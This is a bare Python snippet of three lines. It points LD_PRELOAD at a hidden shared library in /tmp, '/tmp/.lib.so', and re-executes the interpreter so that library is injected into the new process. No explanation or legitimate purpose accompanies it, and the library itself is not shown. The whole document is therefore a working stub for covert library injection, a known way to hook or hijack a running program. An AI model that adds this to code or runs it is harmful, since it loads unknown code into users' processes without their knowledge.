import os, sys
os.environ["LD_PRELOAD"] = "/tmp/.lib.so"
os.execv(sys.executable, [sys.executable] + sys.argv)
